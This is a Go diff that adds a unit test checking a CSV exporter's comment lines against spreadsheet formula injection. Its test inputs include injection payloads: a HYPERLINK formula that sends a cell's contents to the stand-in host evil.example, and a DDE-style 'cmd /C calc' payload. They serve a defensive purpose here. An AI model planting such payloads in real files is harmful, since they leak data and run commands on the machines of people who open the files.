@@ -184,6 +184,29 @@ func inCSV(t *testing.T, p *picture, name string) {
 }
 
 // unguarded is a cell without what keeps it from being a formula.
+// TestCommentsOfCSV reads comments as a spreadsheet does that knows none: it cuts them into cells as it does all lines,
+// in some countries at semicolons.
+func TestCommentsOfCSV(t *testing.T) {
+	for _, foreign := range []string{
+		`orders,=HYPERLINK("http://evil.example/?"&A1),x`, "a, =1+1", "a;@SUM(1+1)*cmd|' /C calc'!A0", "a; +1", "a,\t-1", `a,"=1"`, `a, "=1`, "a,＝1", "a,=1",
+	} {
+		var b strings.Builder
+		if err := pictureOf(foreign).writeCSV(&b); err != nil {
+			t.Fatal(err)
+		}
+		for line := range strings.SplitSeq(b.String(), "\r\n") {
+			if !strings.HasPrefix(line, "# ") {
+				break // the rows
+			}
+			for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(",;\t", r) }) {
+				if c := strings.TrimSpace(cell); strings.ContainsAny(c, `"`) || strings.ContainsRune("=+-@＝＋－＠", first(c)) {
+					t.Errorf("%q: a spreadsheet calculates %q of %q", foreign, cell, line)
+				}
+			}
+		}
+	}
+}
+
 func unguarded(c string) string { return strings.TrimPrefix(c, "'") }
 
 func inJSON(t *testing.T, p *picture, name string) {
